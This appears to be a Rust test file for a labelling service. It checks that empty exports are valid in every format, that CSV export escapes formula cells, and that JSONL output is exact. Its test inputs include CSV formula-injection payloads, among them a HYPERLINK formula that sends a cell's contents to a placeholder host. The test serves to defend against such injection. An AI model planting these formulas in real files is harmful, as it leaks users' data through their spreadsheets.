//! Edge cases of the file contents: an empty snapshot is a valid file in every format, CSV
//! neutralises formula cells, and JSONL is byte-exact.

use serde_json::{Value, json};

use super::{download, export, python};
use crate::parts::{Part, have};
use crate::support::*;

#[tokio::test]
async fn empty_snapshots_are_valid_csv_neutralises_formulas_and_jsonl_is_exact() {
    let app = TestApp::spawn().await;
    let admin = app.bearer(&app.token("admin").await);
    let res = admin
        .post_json(
            "/api/v1/tasks",
            &json!({"name": "Free", "schema": {"kind": "free_text"}, "state": "active"}),
        )
        .await;
    let task = res.json::<Value>().await.unwrap()["id"].as_i64().unwrap();
    let payloads = [
        "=HYPERLINK(\"http://x/?\"&A1,\"c\")",
        "+1+1",
        "-2+3",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "'quoted",
        "plain",
    ];
    // External ids must be printable: the ones with a tab or CR get a plain id.
    let external = |i: usize, p: &str| {
        if p.chars().any(char::is_control) {
            format!("x{i}")
        } else {
            p.to_string()
        }
    };
    let body: String = payloads
        .iter()
        .enumerate()
        .map(|(i, p)| format!("{}\n", json!({"external_id": external(i, p), "text": p})))
        .collect();
    let res = admin
        .post_body(
            &format!("/api/v1/tasks/{task}/items"),
            "application/x-ndjson",
            body,
        )
        .await;
    assert_eq!(res.status(), 200, "{}", res.text().await.unwrap());
    // Nothing resolved yet: an empty snapshot is still a valid file of every format.
    for format in ["jsonl", "csv", "parquet", "tfrecord"] {
        if format == "parquet" && !have(Part::Pyarrow, "reading Parquet exports back with pyarrow")
        {
            continue;
        }
        let made = export(&admin, task, json!({"format": format})).await;
        assert_eq!(made["rows"], 0, "{format}");
        let bytes = download(&admin, &made["id"]).await;
        let path = app.dir.path().join(format!("empty.{format}"));
        std::fs::write(&path, &bytes).unwrap();
        match format {
            "parquet" => assert_eq!(python("read_parquet.py", &path)[0]["rows"], 0),
            "tfrecord" => assert!(python("read_tfrecord.py", &path).is_empty()),
            "csv" => assert_eq!(
                bytes.iter().filter(|b| **b == b'\n').count(),
                1,
                "the header only"
            ),
            _ => assert!(bytes.is_empty()),
        }
    }
    // Final labels that are formulas too (set straight in the store: free text from reviewers).
    let ids: Vec<i64> = sqlx::query_scalar("SELECT id FROM items WHERE task_id = $1 ORDER BY id")
        .bind(task)
        .fetch_all(&app.state.db.pool)
        .await
        .unwrap();
    for (id, p) in ids.iter().zip(payloads) {
        sqlx::query("INSERT INTO resolutions (item_id, task_id, value_json, method, confidence, votes_json, resolved_at) VALUES ($1, $2, $3, 'adjudicated', 1.0, '{}', 0)")
            .bind(id).bind(task).bind(json!(p).to_string()).execute(&app.state.db.pool).await.unwrap();
    }
    let csv_bytes = download(
        &admin,
        &export(&admin, task, json!({"format": "csv"})).await["id"],
    )
    .await;
    let mut r = csv::Reader::from_reader(&csv_bytes[..]);
    let h = r.headers().unwrap().clone();
    assert!(
        !h.iter().any(|c| c == "label_index"),
        "free text has no index column"
    );
    let mut seen = 0;
    let quoted = |v: &str| {
        if v.starts_with(['=', '+', '-', '@', '\t', '\r', '\'']) {
            format!("'{v}")
        } else {
            v.to_string()
        }
    };
    for (i, (rec, p)) in r.records().zip(payloads).enumerate() {
        let rec = rec.unwrap();
        let want = if p == "plain" {
            p.to_string()
        } else {
            format!("'{p}")
        };
        assert_eq!(&rec[1], quoted(&external(i, p)), "external_id cell");
        assert_eq!(&rec[3], want, "label cell");
        assert_eq!(
            serde_json::from_str::<Value>(&rec[2]).unwrap()["text"],
            p,
            "the data cell is JSON text"
        );
        // Removing the one leading quote gives the value back, as documented.
        assert_eq!(rec[3].strip_prefix('\'').unwrap_or(&rec[3]), p);
        seen += 1;
    }
    assert_eq!(seen, payloads.len());
    let jsonl = download(
        &admin,
        &export(&admin, task, json!({"format": "jsonl"})).await["id"],
    )
    .await;
    for (i, (line, p)) in std::str::from_utf8(&jsonl)
        .unwrap()
        .lines()
        .zip(payloads)
        .enumerate()
    {
        let v: Value = serde_json::from_str(line).unwrap();
        assert_eq!(v["external_id"], external(i, p));
        assert_eq!(v["data"]["text"], p);
        assert_eq!(v["label"], p, "JSONL is byte-exact");
    }
}
